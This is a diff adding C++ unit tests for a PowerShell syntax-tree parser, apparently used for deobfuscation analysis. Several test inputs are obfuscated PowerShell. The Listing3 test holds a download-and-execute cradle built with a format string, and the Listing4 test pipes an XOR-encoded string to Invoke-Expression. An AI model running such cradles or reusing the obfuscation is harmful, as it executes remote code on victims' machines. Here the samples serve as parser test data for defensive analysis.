@@ -1,0 +1,318 @@
+// Unit tests for the PowerShell AST parser.
+
+#include <gtest/gtest.h>
+
+#include "psast/parser.h"
+
+namespace ps {
+namespace {
+
+const Ast* first_statement(const ScriptBlockAst& sb) {
+  EXPECT_FALSE(sb.named_blocks.empty());
+  const auto& stmts = sb.named_blocks.front()->statements;
+  EXPECT_FALSE(stmts.empty());
+  return stmts.front().get();
+}
+
+TEST(Parser, SimpleCommandPipeline) {
+  auto sb = parse("Write-Host hello");
+  const Ast* st = first_statement(*sb);
+  ASSERT_EQ(st->kind(), NodeKind::Pipeline);
+  const auto* pipe = static_cast<const PipelineAst*>(st);
+  ASSERT_EQ(pipe->elements.size(), 1u);
+  ASSERT_EQ(pipe->elements[0]->kind(), NodeKind::Command);
+  const auto* cmd = static_cast<const CommandAst*>(pipe->elements[0].get());
+  EXPECT_EQ(cmd->constant_name(), "Write-Host");
+  ASSERT_EQ(cmd->elements.size(), 2u);
+}
+
+TEST(Parser, PipelineWithTwoStages) {
+  auto sb = parse("'abc' | iex");
+  const auto* pipe = static_cast<const PipelineAst*>(first_statement(*sb));
+  ASSERT_EQ(pipe->elements.size(), 2u);
+  EXPECT_EQ(pipe->elements[0]->kind(), NodeKind::CommandExpression);
+  EXPECT_EQ(pipe->elements[1]->kind(), NodeKind::Command);
+}
+
+TEST(Parser, Assignment) {
+  auto sb = parse("$a = 'x' + 'y'");
+  const Ast* st = first_statement(*sb);
+  ASSERT_EQ(st->kind(), NodeKind::AssignmentStatement);
+  const auto* assign = static_cast<const AssignmentStatementAst*>(st);
+  EXPECT_EQ(assign->left->kind(), NodeKind::VariableExpression);
+  EXPECT_EQ(assign->op, "=");
+  ASSERT_EQ(assign->right->kind(), NodeKind::Pipeline);
+}
+
+TEST(Parser, BinaryConcat) {
+  auto sb = parse("'he' + 'llo'");
+  const auto* pipe = static_cast<const PipelineAst*>(first_statement(*sb));
+  const auto* ce = static_cast<const CommandExpressionAst*>(pipe->elements[0].get());
+  ASSERT_EQ(ce->expression->kind(), NodeKind::BinaryExpression);
+  const auto* bin = static_cast<const BinaryExpressionAst*>(ce->expression.get());
+  EXPECT_EQ(bin->op, "+");
+  EXPECT_EQ(bin->left->kind(), NodeKind::StringConstantExpression);
+}
+
+TEST(Parser, FormatOperatorWithArrayRhs) {
+  auto sb = parse("\"{2}{0}{1}\" -f 'b','c','a'");
+  const auto* pipe = static_cast<const PipelineAst*>(first_statement(*sb));
+  const auto* ce = static_cast<const CommandExpressionAst*>(pipe->elements[0].get());
+  ASSERT_EQ(ce->expression->kind(), NodeKind::BinaryExpression);
+  const auto* bin = static_cast<const BinaryExpressionAst*>(ce->expression.get());
+  EXPECT_EQ(bin->op, "-f");
+  ASSERT_EQ(bin->right->kind(), NodeKind::ArrayLiteral);
+  const auto* arr = static_cast<const ArrayLiteralAst*>(bin->right.get());
+  EXPECT_EQ(arr->elements.size(), 3u);
+}
+
+TEST(Parser, CastChain) {
+  auto sb = parse("[STRiNg][CHar]39");
+  const auto* pipe = static_cast<const PipelineAst*>(first_statement(*sb));
+  const auto* ce = static_cast<const CommandExpressionAst*>(pipe->elements[0].get());
+  ASSERT_EQ(ce->expression->kind(), NodeKind::ConvertExpression);
+  const auto* outer = static_cast<const ConvertExpressionAst*>(ce->expression.get());
+  EXPECT_EQ(outer->type_name, "STRiNg");
+  ASSERT_EQ(outer->child->kind(), NodeKind::ConvertExpression);
+}
+
+TEST(Parser, StaticInvokeMember) {
+  auto sb = parse("[Convert]::FromBase64String('QQ==')");
+  const auto* pipe = static_cast<const PipelineAst*>(first_statement(*sb));
+  const auto* ce = static_cast<const CommandExpressionAst*>(pipe->elements[0].get());
+  ASSERT_EQ(ce->expression->kind(), NodeKind::InvokeMemberExpression);
+  const auto* inv =
+      static_cast<const InvokeMemberExpressionAst*>(ce->expression.get());
+  EXPECT_TRUE(inv->is_static);
+  EXPECT_EQ(inv->constant_member(), "frombase64string");
+  ASSERT_EQ(inv->arguments.size(), 1u);
+}
+
+TEST(Parser, InstanceInvokeMemberChain) {
+  auto sb = parse("(New-Object Net.WebClient).DownloadString('u').Trim()");
+  const auto* pipe = static_cast<const PipelineAst*>(first_statement(*sb));
+  const auto* ce = static_cast<const CommandExpressionAst*>(pipe->elements[0].get());
+  ASSERT_EQ(ce->expression->kind(), NodeKind::InvokeMemberExpression);
+  const auto* trim =
+      static_cast<const InvokeMemberExpressionAst*>(ce->expression.get());
+  EXPECT_EQ(trim->constant_member(), "trim");
+  ASSERT_EQ(trim->target->kind(), NodeKind::InvokeMemberExpression);
+}
+
+TEST(Parser, IndexExpression) {
+  auto sb = parse("$env:ComSpec[4,24,25]");
+  const auto* pipe = static_cast<const PipelineAst*>(first_statement(*sb));
+  const auto* ce = static_cast<const CommandExpressionAst*>(pipe->elements[0].get());
+  ASSERT_EQ(ce->expression->kind(), NodeKind::IndexExpression);
+  const auto* idx = static_cast<const IndexExpressionAst*>(ce->expression.get());
+  EXPECT_EQ(idx->target->kind(), NodeKind::VariableExpression);
+  EXPECT_EQ(idx->index->kind(), NodeKind::ArrayLiteral);
+}
+
+TEST(Parser, NegativeRangeIndex) {
+  auto sb = parse("$x[-1..-9]");
+  const auto* pipe = static_cast<const PipelineAst*>(first_statement(*sb));
+  const auto* ce = static_cast<const CommandExpressionAst*>(pipe->elements[0].get());
+  ASSERT_EQ(ce->expression->kind(), NodeKind::IndexExpression);
+  const auto* idx = static_cast<const IndexExpressionAst*>(ce->expression.get());
+  EXPECT_EQ(idx->index->kind(), NodeKind::BinaryExpression);
+}
+
+TEST(Parser, SubExpression) {
+  auto sb = parse("$( Write-Host hi; 'val' )");
+  const auto* pipe = static_cast<const PipelineAst*>(first_statement(*sb));
+  const auto* ce = static_cast<const CommandExpressionAst*>(pipe->elements[0].get());
+  ASSERT_EQ(ce->expression->kind(), NodeKind::SubExpression);
+  const auto* sub = static_cast<const SubExpressionAst*>(ce->expression.get());
+  EXPECT_EQ(sub->statements.size(), 2u);
+}
+
+TEST(Parser, IfElse) {
+  auto sb = parse("if ($a) { 1 } elseif ($b) { 2 } else { 3 }");
+  const Ast* st = first_statement(*sb);
+  ASSERT_EQ(st->kind(), NodeKind::IfStatement);
+  const auto* ifst = static_cast<const IfStatementAst*>(st);
+  EXPECT_EQ(ifst->clauses.size(), 2u);
+  EXPECT_NE(ifst->else_body, nullptr);
+}
+
+TEST(Parser, WhileLoop) {
+  auto sb = parse("while ($true) { break }");
+  EXPECT_EQ(first_statement(*sb)->kind(), NodeKind::WhileStatement);
+}
+
+TEST(Parser, ForLoop) {
+  auto sb = parse("for ($i = 0; $i -lt 10; $i++) { $i }");
+  const Ast* st = first_statement(*sb);
+  ASSERT_EQ(st->kind(), NodeKind::ForStatement);
+  const auto* f = static_cast<const ForStatementAst*>(st);
+  EXPECT_NE(f->initializer, nullptr);
+  EXPECT_NE(f->condition, nullptr);
+  EXPECT_NE(f->iterator, nullptr);
+}
+
+TEST(Parser, ForEachLoop) {
+  auto sb = parse("foreach ($x in 1..5) { $x }");
+  const Ast* st = first_statement(*sb);
+  ASSERT_EQ(st->kind(), NodeKind::ForEachStatement);
+}
+
+TEST(Parser, FunctionDefinition) {
+  auto sb = parse("function Get-Foo($a, $b) { return $a }");
+  const Ast* st = first_statement(*sb);
+  ASSERT_EQ(st->kind(), NodeKind::FunctionDefinition);
+  const auto* fn = static_cast<const FunctionDefinitionAst*>(st);
+  EXPECT_EQ(fn->name, "Get-Foo");
+  EXPECT_EQ(fn->parameters.size(), 2u);
+}
+
+TEST(Parser, TryCatchFinally) {
+  auto sb = parse("try { 1 } catch { 2 } finally { 3 }");
+  const Ast* st = first_statement(*sb);
+  ASSERT_EQ(st->kind(), NodeKind::TryStatement);
+  const auto* t = static_cast<const TryStatementAst*>(st);
+  EXPECT_EQ(t->catch_bodies.size(), 1u);
+  EXPECT_NE(t->finally_body, nullptr);
+}
+
+TEST(Parser, Hashtable) {
+  auto sb = parse("@{ a = 1; b = 'x' }");
+  const auto* pipe = static_cast<const PipelineAst*>(first_statement(*sb));
+  const auto* ce = static_cast<const CommandExpressionAst*>(pipe->elements[0].get());
+  ASSERT_EQ(ce->expression->kind(), NodeKind::HashtableExpression);
+  const auto* ht =
+      static_cast<const HashtableExpressionAst*>(ce->expression.get());
+  EXPECT_EQ(ht->entries.size(), 2u);
+}
+
+TEST(Parser, ScriptBlockExpression) {
+  auto sb = parse("$f = { Write-Host hi }");
+  const auto* assign =
+      static_cast<const AssignmentStatementAst*>(first_statement(*sb));
+  const auto* rhs = static_cast<const PipelineAst*>(assign->right.get());
+  const auto* ce = static_cast<const CommandExpressionAst*>(rhs->elements[0].get());
+  EXPECT_EQ(ce->expression->kind(), NodeKind::ScriptBlockExpression);
+}
+
+TEST(Parser, ExtentsMatchSource) {
+  const std::string src = "$a = ('he' + 'llo')";
+  auto sb = parse(src);
+  sb->post_order([&](const Ast& node) {
+    EXPECT_LE(node.start(), node.end());
+    EXPECT_LE(node.end(), src.size());
+  });
+  const auto* assign =
+      static_cast<const AssignmentStatementAst*>(first_statement(*sb));
+  EXPECT_EQ(assign->left->text_in(src), "$a");
+  EXPECT_EQ(assign->right->text_in(src), "('he' + 'llo')");
+}
+
+TEST(Parser, ChildrenAreOrderedAndNested) {
+  const std::string src = "'a'+'b'+'c'";
+  auto sb = parse(src);
+  sb->post_order([&](const Ast& node) {
+    std::size_t prev = node.start();
+    for (const Ast* child : node.children()) {
+      EXPECT_GE(child->start(), prev);
+      EXPECT_LE(child->end(), node.end());
+      prev = child->start();
+    }
+  });
+}
+
+TEST(Parser, ParentLinks) {
+  auto sb = parse("'a'+'b'");
+  sb->post_order([&](const Ast& node) {
+    for (const Ast* child : node.children()) {
+      EXPECT_EQ(child->parent(), &node);
+    }
+  });
+  EXPECT_EQ(sb->parent(), nullptr);
+}
+
+TEST(Parser, MultiStatementScript) {
+  auto sb = parse("$a = 1\n$b = 2; $c = 3\nWrite-Host $a$b$c");
+  EXPECT_EQ(sb->named_blocks.front()->statements.size(), 4u);
+}
+
+TEST(Parser, DotInvocation) {
+  auto sb = parse(". ('ie'+'x') 'write-host hi'");
+  const auto* pipe = static_cast<const PipelineAst*>(first_statement(*sb));
+  const auto* cmd = static_cast<const CommandAst*>(pipe->elements[0].get());
+  EXPECT_EQ(cmd->invocation, CommandAst::Invocation::Dot);
+  EXPECT_EQ(cmd->elements[0]->kind(), NodeKind::ParenExpression);
+}
+
+TEST(Parser, AmpersandInvocation) {
+  auto sb = parse("& ($env:ComSpec[4,24,25] -join '')");
+  const auto* pipe = static_cast<const PipelineAst*>(first_statement(*sb));
+  const auto* cmd = static_cast<const CommandAst*>(pipe->elements[0].get());
+  EXPECT_EQ(cmd->invocation, CommandAst::Invocation::Ampersand);
+}
+
+TEST(Parser, Listing3Parses) {
+  const char* src =
+      "Invoke-Expression ((\"{13}{0}{8}{6}{12}{16}{7}{14}{10}{1}{9}{5}{15}{3}"
+      "{2}{11}{4}\" -f 'e','Uht','om/malwar','t.c','.txtjYU)','://','et',"
+      "'nloadst','ct N','tps','(jY','e','.WebCl','(New-Obj','r ing','tes',"
+      "'ient).dow')).RepLACe('jYU',[STRiNg][CHar]39))";
+  // One extra ')' in the transcribed listing; use the balanced form.
+  const char* balanced =
+      "Invoke-Expression ((\"{13}{0}{8}{6}{12}{16}{7}{14}{10}{1}{9}{5}{15}{3}"
+      "{2}{11}{4}\" -f 'e','Uht','om/malwar','t.c','.txtjYU)','://','et',"
+      "'nloadst','ct N','tps','(jY','e','.WebCl','(New-Obj','r ing','tes',"
+      "'ient).dow').RepLACe('jYU',[STRiNg][CHar]39))";
+  (void)src;
+  EXPECT_TRUE(is_valid_syntax(balanced));
+}
+
+TEST(Parser, Listing4Parses) {
+  const char* src =
+      "( '99S5i46}60~@.d60-42~57-46@101@63d51i63}108}98' -SPLIT '~' -SPLit "
+      "'d' -SPliT '}' -SPLiT 'i' -SpliT ',' -SPLit 'J' | fOrEAch-ObJECt { "
+      "[cHAR]($_ -BxoR '0x4B') }) -jOiN '' | & ($Env:coMSpEC[4,24,25] -JOiN "
+      "'')";
+  EXPECT_TRUE(is_valid_syntax(src));
+}
+
+TEST(Parser, TryParseReturnsNullOnGarbage) {
+  std::string err;
+  EXPECT_EQ(try_parse("if (", &err), nullptr);
+  EXPECT_FALSE(err.empty());
+  EXPECT_EQ(try_parse("'unterminated", nullptr), nullptr);
+}
+
+TEST(Parser, SwitchStatement) {
+  auto sb = parse("switch ($x) { 'a' { 1 } default { 2 } }");
+  EXPECT_EQ(first_statement(*sb)->kind(), NodeKind::SwitchStatement);
+}
+
+TEST(Parser, ParamBlock) {
+  auto sb = parse("param($url, $retries = 3)\nWrite-Host $url");
+  ASSERT_NE(sb->param_block, nullptr);
+  EXPECT_EQ(sb->param_block->parameters.size(), 2u);
+}
+
+TEST(Parser, RecoverableKindPredicate) {
+  EXPECT_TRUE(is_recoverable_kind(NodeKind::Pipeline));
+  EXPECT_TRUE(is_recoverable_kind(NodeKind::BinaryExpression));
+  EXPECT_TRUE(is_recoverable_kind(NodeKind::UnaryExpression));
+  EXPECT_TRUE(is_recoverable_kind(NodeKind::ConvertExpression));
+  EXPECT_TRUE(is_recoverable_kind(NodeKind::InvokeMemberExpression));
+  EXPECT_TRUE(is_recoverable_kind(NodeKind::SubExpression));
+  EXPECT_FALSE(is_recoverable_kind(NodeKind::Command));
+  EXPECT_FALSE(is_recoverable_kind(NodeKind::VariableExpression));
+}
+
+TEST(Parser, ScopeKindPredicate) {
+  EXPECT_TRUE(is_scope_kind(NodeKind::NamedBlock));
+  EXPECT_TRUE(is_scope_kind(NodeKind::IfStatement));
+  EXPECT_TRUE(is_scope_kind(NodeKind::WhileStatement));
+  EXPECT_TRUE(is_scope_kind(NodeKind::ForStatement));
+  EXPECT_TRUE(is_scope_kind(NodeKind::ForEachStatement));
+  EXPECT_TRUE(is_scope_kind(NodeKind::StatementBlock));
+  EXPECT_FALSE(is_scope_kind(NodeKind::Pipeline));
+}
+
+}  // namespace
+}  // namespace ps
